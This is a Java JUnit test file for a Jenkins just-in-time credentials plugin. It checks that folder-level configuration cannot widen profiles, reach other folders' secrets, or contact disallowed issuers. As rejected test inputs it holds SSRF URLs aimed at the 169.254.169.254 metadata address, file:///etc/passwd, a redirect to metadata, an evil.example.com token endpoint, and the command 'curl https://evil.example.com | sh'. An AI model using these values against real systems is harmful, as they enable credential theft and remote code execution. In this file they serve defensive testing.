package io.github.jitcredentials.jenkins.folder;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;

import com.cloudbees.hudson.plugins.folder.Folder;
import com.cloudbees.plugins.credentials.CredentialsProvider;
import com.cloudbees.plugins.credentials.CredentialsScope;
import com.cloudbees.plugins.credentials.CredentialsStore;
import com.cloudbees.plugins.credentials.domains.Domain;
import com.sun.net.httpserver.HttpServer;
import hudson.model.Failure;
import hudson.model.Item;
import hudson.model.Result;
import hudson.util.FormValidation;
import hudson.util.Secret;
import io.github.jitcredentials.jenkins.JitCredentials;
import io.github.jitcredentials.jenkins.Trial;
import io.github.jitcredentials.jenkins.config.ConditionEntry;
import io.github.jitcredentials.jenkins.config.ControllerConfiguration;
import io.github.jitcredentials.jenkins.config.CredentialPlaces;
import io.github.jitcredentials.jenkins.config.FolderBounds;
import io.github.jitcredentials.jenkins.config.IssuerEntry;
import io.github.jitcredentials.jenkins.config.OAuth2IssuerEntry;
import io.github.jitcredentials.jenkins.config.PartEntry;
import io.github.jitcredentials.jenkins.config.ProfileEntry;
import io.github.jitcredentials.jenkins.config.RuleEntry;
import io.github.jitcredentials.jenkins.config.VariableEntry;
import io.github.jitcredentials.jenkins.step.JitStep;
import java.io.StringReader;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.util.List;
import javax.xml.transform.stream.StreamSource;
import jenkins.model.Jenkins;
import org.htmlunit.html.HtmlForm;
import org.htmlunit.html.HtmlPage;
import org.jenkinsci.plugins.plaincredentials.impl.StringCredentialsImpl;
import org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition;
import org.jenkinsci.plugins.workflow.job.WorkflowJob;
import org.jenkinsci.plugins.workflow.job.WorkflowRun;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.jvnet.hudson.test.JenkinsRule;
import org.jvnet.hudson.test.MockAuthorizationStrategy;
import org.jvnet.hudson.test.junit.jupiter.WithJenkins;

/** What folders may say, and what they may not. A folder's administrator is one who has no other right but that. */
@WithJenkins
class FolderTest {
    private JenkinsRule jenkins;
    private Trial trial;
    private Folder folder;

    @BeforeEach
    void open(JenkinsRule rule) throws Exception {
        jenkins = rule;
        trial = Trial.trusting(rule.getURL());
        Trial.configure(trial.url());
        folder = rule.createProject(Folder.class, "folder");
    }

    @AfterEach
    void close() {
        trial.close();
    }

    @Test
    void folderThatSaysNothing_offersWhatTheControllerOffers() throws Exception {
        assertThat(Effective.of(folder).offers())
                .extracting(Offer::getName)
                .containsExactly("deploy", "read", "file", "renewed");
        jenkins.assertBuildStatusSuccess(build(folder, "withJitCredentials(profile: 'deploy') { echo 'in' }"));
        assertThat(trial.alive()).isZero();
    }

    @Test
    void pick_narrowsAndHidesTheOthers_alsoInFoldersBelow() throws Exception {
        FolderConfiguration said = new FolderConfiguration();
        said.setOnlyPicked(true);
        PickEntry deploy = new PickEntry("deploy");
        deploy.setTtl("1m");
        said.setPicks(List.of(deploy));
        save(said);
        Folder below = folder.createProject(Folder.class, "below");

        Offer offer = Effective.of(below).offers().iterator().next();
        assertThat(offer.getTtl()).isEqualTo("1m");
        assertThat(offer.getOriginText()).isEqualTo("this controller, narrowed by folder");
        WorkflowRun run =
                jenkins.assertBuildStatusSuccess(build(below, "withJitCredentials(profile: 'deploy') { echo 'in' }"));
        jenkins.assertLogContains("of 1m", run);
        WorkflowRun other =
                jenkins.assertBuildStatus(Result.FAILURE, build(below, "withJitCredentials(profile: 'read') {}"));
        jenkins.assertLogContains("there is no profile \"read\", only deploy", other);
        WorkflowRun longer = jenkins.assertBuildStatus(
                Result.FAILURE, build(below, "withJitCredentials(profile: 'deploy', ttl: '2m') {}"));
        jenkins.assertLogContains("2m is longer than the 1m of profile", longer);
        JitStep.DescriptorImpl form = jenkins.jenkins.getDescriptorByType(JitStep.DescriptorImpl.class);
        assertThat(form.doFillProfileItems(other.getParent())).containsExactly("deploy");
        assertThat(form.doCheckProfile(other.getParent(), "deploy").kind).isEqualTo(FormValidation.Kind.OK);
        assertThat(form.doCheckProfile(other.getParent(), "read")).hasMessageContaining("only deploy");
        assertThat(trial.granted()).isOne();
    }

    @Test
    void pickThatWantsMore_isRefused() {
        FolderConfiguration said = new FolderConfiguration();
        PickEntry longer = new PickEntry("deploy");
        longer.setTtl("2h");
        PickEntry wider = new PickEntry("read");
        wider.setRequest(List.of(new PartEntry("scope", List.of("repo:read", "repo:write"))));
        said.setPicks(List.of(longer, wider, new PickEntry("unheard-of")));

        assertThatThrownBy(() -> save(said))
                .isInstanceOf(Failure.class)
                .message()
                .contains(
                        "2h is longer than the 5m",
                        "is more than the repo:read",
                        "\"unheard-of\" is not offered above");
        assertThat(Effective.of(folder).problems()).isEmpty();
    }

    @Test
    void profileThatIsShortenedAboveAfterwards_isNobodys() throws Exception {
        FolderConfiguration said = new FolderConfiguration();
        PickEntry pick = new PickEntry("deploy");
        pick.setTtl("4m");
        said.setPicks(List.of(pick));
        save(said);
        ControllerConfiguration controller = ControllerConfiguration.get();
        controller.setProfileEntries(controller.getProfileEntries().stream()
                .map(profile -> profile.getName().equals("deploy") ? shortened(profile) : profile)
                .toList());

        WorkflowRun run =
                jenkins.assertBuildStatus(Result.FAILURE, build(folder, "withJitCredentials(profile: 'deploy') {}"));

        jenkins.assertLogContains("4m is longer than the 2m", run);
        assertThat(trial.granted()).isZero();
    }

    @Test
    void ownIssuerWithinTheBounds_servesTheFolderAndNobodyElse() throws Exception {
        bounds("127.0.0.0/8");
        save(own(trial.url()));

        WorkflowRun run = jenkins.assertBuildStatusSuccess(
                build(folder, "withJitCredentials(profile: 'ours') { echo \"got ${env.OUR_TOKEN}\" }"));
        jenkins.assertLogContains("got ****", run);
        jenkins.assertLogContains("proven dead", run);
        assertThat(trial.alive()).isZero();
        Folder neighbour = jenkins.createProject(Folder.class, "p-neighbour");
        for (Folder other : List.of(neighbour)) {
            jenkins.assertLogContains(
                    "there is no profile \"ours\"",
                    jenkins.assertBuildStatus(Result.FAILURE, build(other, "withJitCredentials(profile: 'ours') {}")));
        }
        assertThat(Effective.of(folder).offers())
                .filteredOn(offer -> offer.getName().equals("ours"))
                .singleElement()
                .satisfies(offer -> assertThat(offer.getOriginText()).isEqualTo("folder folder"));
    }

    @Test
    void networkThatIsTakenOutAfterwards_isNotConnectedTo() throws Exception {
        bounds("127.0.0.0/8");
        save(own(trial.url()));
        bounds();

        WorkflowRun run =
                jenkins.assertBuildStatus(Result.FAILURE, build(folder, "withJitCredentials(profile: 'ours') {}"));

        jenkins.assertLogContains("leads to an address that may not be connected to from here", run);
        assertThat(trial.granted()).isZero();
    }

    @Test
    void issuersOfTheController_areReachedWhateverFoldersMay() throws Exception {
        bounds();

        jenkins.assertBuildStatusSuccess(build(folder, "withJitCredentials(profile: 'deploy') { echo 'in' }"));
    }

    @Test
    void issuerElsewhere_isRefused() {
        for (String url : List.of(
                "https://169.254.169.254/",
                "https://2852039166/",
                "https://0xa9fea9fe/",
                "https://[::ffff:169.254.169.254]/",
                "https://[::ffff:a9fe:a9fe]/",
                "https://[64:ff9b::a9fe:a9fe]/",
                "http://169.254.169.254/",
                "http://127.0.0.1:8080/",
                "http://localhost:8080/",
                "https://127.1/",
                "https://10.0.0.1/",
                "https://elsewhere.example.net/",
                "file:///etc/passwd",
                "https://user:password@sso.example.com/")) {
            ControllerConfiguration.get()
                    .setFolders(new FolderBounds(List.of("sso.example.com"), List.of("127.0.0.0/8")));

            assertThatThrownBy(() -> save(own(url))).isInstanceOf(Failure.class);
            assertThat(Effective.of(folder).offers()).extracting(Offer::getName).doesNotContain("ours");
        }
    }

    /** Whose names the administrator allowed, and whose addresses he did not. */
    @Test
    void issuerAtAnAddressThatIsNotPublic_isRefusedBySaveAndByConnection() throws Exception {
        for (String url : List.of(
                "https://169.254.169.254/",
                "https://2852039166/",
                "https://[::ffff:169.254.169.254]/",
                "https://[64:ff9b::a9fe:a9fe]/",
                "http://127.0.0.1:8080/",
                "https://10.0.0.1/",
                "https://localhost/")) {
            ControllerConfiguration.get()
                    .setFolders(new FolderBounds(
                            List.of(
                                    "169.254.169.254",
                                    "2852039166",
                                    "[::ffff:169.254.169.254]",
                                    "[64:ff9b::a9fe:a9fe]",
                                    "127.0.0.1",
                                    "10.0.0.1",
                                    "localhost"),
                            List.of()));

            assertThatThrownBy(() -> save(own(url))).isInstanceOf(Failure.class).hasMessageContaining("not reached at");
            // As if a name server had said something else then.
            FolderStore.get().save(folder, own(url));
            WorkflowRun run =
                    jenkins.assertBuildStatus(Result.FAILURE, build(folder, "withJitCredentials(profile: 'ours') {}"));
            jenkins.assertLogContains("leads to an address that may not be connected to from here", run);
        }
    }

    @Test
    void issuerThatRedirects_isNotFollowed() throws Exception {
        bounds("127.0.0.0/8");
        HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getByName("127.0.0.1"), 0), 0);
        server.createContext("/", exchange -> {
            exchange.getResponseHeaders().add("Location", "http://169.254.169.254/latest/meta-data/");
            exchange.sendResponseHeaders(302, -1);
            exchange.close();
        });
        server.start();
        try {
            save(own("http://127.0.0.1:" + server.getAddress().getPort()));
            WorkflowRun run =
                    jenkins.assertBuildStatus(Result.FAILURE, build(folder, "withJitCredentials(profile: 'ours') {}"));
            jenkins.assertLogContains("redirect", run);
        } finally {
            server.stop(0);
        }
    }

    @Test
    void identityForSomebodyElse_isNotAskedFor() {
        ControllerConfiguration.get()
                .setFolders(new FolderBounds(List.of("sso.example.com", "evil.example.com"), List.of()));
        OAuth2IssuerEntry audience = new OAuth2IssuerEntry("sso", "https://evil.example.com/");
        audience.setAudience("https://sso.example.com/");
        OAuth2IssuerEntry endpoint = new OAuth2IssuerEntry("sso", "https://sso.example.com/");
        endpoint.setTokenEndpoint("https://evil.example.com/token");

        for (OAuth2IssuerEntry issuer : List.of(audience, endpoint)) {
            issuer.setClient("trial");
            issuer.setGrant("token-exchange");
            assertThatThrownBy(() -> save(own(issuer))).isInstanceOf(Failure.class);
        }
    }

    @Test
    void commandForAdministrators_isNotTheFolders() {
        bounds("127.0.0.0/8");
        OAuth2IssuerEntry issuer = issuer(trial.url());
        issuer.setByHand("curl https://evil.example.com | sh");

        assertThatThrownBy(() -> save(own(issuer)))
                .isInstanceOf(Failure.class)
                .hasMessageContaining("byHand: a folder's issuer has no command");
    }

    @Test
    void secretOutsideOfJenkins_isRefused() {
        for (String place : List.of("file:/etc/passwd", "env:HOME")) {
            bounds("127.0.0.0/8");
            OAuth2IssuerEntry issuer = issuer(trial.url());
            issuer.setAuthenticate("secret");
            issuer.setSecretCredentialsId(place);

            assertThatThrownBy(() -> save(own(issuer)))
                    .isInstanceOf(Failure.class)
                    .hasMessageContaining("takes the id of a stored credential");
        }
    }

    @Test
    void credentialOfAnotherFolder_isNotFound() throws Exception {
        Folder neighbour = jenkins.createProject(Folder.class, "neighbour");
        store(neighbour, "theirs", "a secret of theirs");
        store(folder, "ours", "a secret of ours");

        assertThat(CredentialPlaces.secret("credential:folder:ours").reveal()).isEqualTo("a secret of ours");
        for (String id : List.of("theirs", "neighbour:theirs", "credential:neighbour:theirs", "../neighbour:theirs")) {
            OAuth2IssuerEntry issuer = issuer("https://sso.example.com/");
            issuer.setSecretCredentialsId(id);
            issuer.setAuthenticate("secret");
            ControllerConfiguration.get().setFolders(new FolderBounds(List.of("sso.example.com"), List.of()));
            FolderStore.get().save(folder, own(issuer));
            String place = Effective.of(folder)
                    .configuration()
                    .issuers()
                    .get("folder/sso")
                    .settings()
                    .get("secret");
            assertThat(place).startsWith("credential:folder:");
            assertThatThrownBy(() -> CredentialPlaces.secret(place)).hasMessageContaining("there is no credential");
        }
    }

    @Test
    void profileOfAbove_isNotEdited_andItsIssuerNotUsed() {
        bounds("127.0.0.0/8");
        FolderConfiguration said = own(trial.url());
        ProfileEntry same = profile("deploy", "sso");
        ProfileEntry theirs = profile("more", "trial");
        said.setProfiles(List.of(same));
        said.setPolicy(List.of(rule("deploy")));
        assertThatThrownBy(() -> save(said)).hasMessageContaining("is one from above");

        said.setProfiles(List.of(theirs));
        said.setPolicy(List.of(rule("more")));
        assertThatThrownBy(() -> save(said)).hasMessageContaining("there is no issuer \"trial\"");

        said.setProfiles(List.of(profile("ours", "sso")));
        said.setPolicy(List.of(rule("ours"), rule("deploy")));
        assertThatThrownBy(() -> save(said)).isInstanceOf(Failure.class);
    }

    @Test
    void onlyWhoMayConfigureIt_configuresIt() throws Exception {
        jenkins.jenkins.setSecurityRealm(jenkins.createDummySecurityRealm());
        jenkins.jenkins.setAuthorizationStrategy(new MockAuthorizationStrategy()
                .grant(Jenkins.ADMINISTER)
                .everywhere()
                .to("admin")
                .grant(Jenkins.READ, Item.READ, Item.CONFIGURE, Item.EXTENDED_READ)
                .everywhere()
                .to("owner", "jit")
                .grant(FolderPermissions.CONFIGURE)
                .onItems(folder)
                .to("jit"));
        FolderConfiguration said = new FolderConfiguration();
        said.setOnlyPicked(true);
        save(said);

        JenkinsRule.WebClient owner = jenkins.createWebClient().login("owner");
        owner.assertFails("job/folder/jit-credentials/configure", 403);
        HtmlForm form = owner.getPage(folder, "configure").getFormByName("config");
        jenkins.submit(form);
        String xml = owner.goToXml("job/folder/config.xml").asXml();
        assertThat(xml).doesNotContain("onlyPicked");
        folder.updateByXml(
                new StreamSource(
                        new StringReader(
                                "<com.cloudbees.hudson.plugins.folder.Folder><properties/></com.cloudbees.hudson.plugins.folder.Folder>")));
        assertThat(Effective.of(folder).offers()).isEmpty();

        JenkinsRule.WebClient jit = jenkins.createWebClient().login("jit");
        HtmlForm ours = jit.getPage(folder, "jit-credentials/configure").getFormByName("config");
        ours.getInputByName("_.onlyPicked").setChecked(false);
        HtmlPage page = jenkins.submit(ours);
        assertThat(page.asNormalizedText()).contains("Effective profiles", "deploy", "this controller");
        assertThat(Effective.of(folder).offers()).hasSize(4);
    }

    @Test
    void page_showsEachProfileWithItsOrigin() throws Exception {
        bounds("127.0.0.0/8");
        FolderConfiguration said = own(trial.url());
        PickEntry pick = new PickEntry("read");
        pick.setTtl("30s");
        said.setPicks(List.of(pick));
        save(said);

        HtmlPage page = jenkins.createWebClient().getPage(folder, "jit-credentials");

        assertThat(page.asNormalizedText())
                .contains("Effective profiles", "this controller, narrowed by folder", "folder folder", "30s");
        HtmlForm form = jenkins.createWebClient()
                .getPage(folder, "jit-credentials/configure")
                .getFormByName("config");
        jenkins.submit(form);
        assertThat(Effective.of(folder).offers())
                .extracting(Offer::getOriginText)
                .contains("this controller, narrowed by folder", "folder folder");
    }

    @Test
    void folderThatIsReadAgain_saysTheSame() throws Exception {
        bounds("127.0.0.0/8");
        FolderConfiguration said = own(trial.url());
        said.setOnlyPicked(true);
        PickEntry pick = new PickEntry("read");
        pick.setTtl("30s");
        pick.setRequest(List.of(new PartEntry("scope", List.of("repo:read"))));
        said.setPicks(List.of(pick));
        save(said);

        folder.renameTo("moved");
        jenkins.jenkins.reload();

        Folder again = jenkins.jenkins.getItemByFullName("moved", Folder.class);
        assertThat(again).isNotNull().isNotSameAs(folder);
        assertThat(Effective.of(again).problems()).isEmpty();
        assertThat(Effective.of(again).offers())
                .extracting(Offer::getName, Offer::getTtl, Offer::getIssuer)
                .containsExactly(tuple("read", "30s", "trial"), tuple("ours", "5m", "moved/sso"));
    }

    private static ProfileEntry shortened(ProfileEntry profile) {
        ProfileEntry shorter = new ProfileEntry(profile.getName(), profile.getIssuer(), profile.getRequest(), "2m");
        shorter.setEnv(profile.getEnv());
        return shorter;
    }

    private void save(FolderConfiguration said) throws Exception {
        new FolderAction(folder).save(said);
    }

    private static void bounds(String... networks) {
        ControllerConfiguration.get()
                .setFolders(new FolderBounds(List.of("127.0.0.1", "localhost"), List.of(networks)));
    }

    private static OAuth2IssuerEntry issuer(String url) {
        OAuth2IssuerEntry issuer = new OAuth2IssuerEntry("sso", url);
        issuer.setClient("trial");
        issuer.setGrant("token-exchange");
        return issuer;
    }

    private static FolderConfiguration own(String url) {
        return own(issuer(url));
    }

    private static FolderConfiguration own(IssuerEntry issuer) {
        FolderConfiguration said = new FolderConfiguration();
        said.setIssuers(List.of(issuer));
        said.setProfiles(List.of(profile("ours", "sso")));
        said.setPolicy(List.of(rule("ours")));
        return said;
    }

    private static ProfileEntry profile(String name, String issuer) {
        ProfileEntry profile =
                new ProfileEntry(name, issuer, List.of(new PartEntry("scope", List.of("repo:write"))), "5m");
        profile.setEnv(List.of(new VariableEntry("OUR_TOKEN", "token")));
        return profile;
    }

    private static RuleEntry rule(String profile) {
        return new RuleEntry(
                "jobs of this folder, " + profile,
                List.of(profile),
                List.of(new ConditionEntry("job", List.of("folder/**"))));
    }

    private static void store(Folder where, String id, String secret) throws Exception {
        CredentialsStore store =
                CredentialsProvider.lookupStores(where).iterator().next();
        store.addCredentials(
                Domain.global(), new StringCredentialsImpl(CredentialsScope.GLOBAL, id, "", Secret.fromString(secret)));
    }

    private WorkflowRun build(Folder where, String script) throws Exception {
        WorkflowJob job =
                where.createProject(WorkflowJob.class, "p" + where.getItems().size());
        job.setDefinition(new CpsFlowDefinition(script, true));
        WorkflowRun run = job.scheduleBuild2(0).waitForStart();
        jenkins.waitForCompletion(run);
        assertThat(JitCredentials.get().serverIfUsed()).isNotNull();
        return run;
    }
}
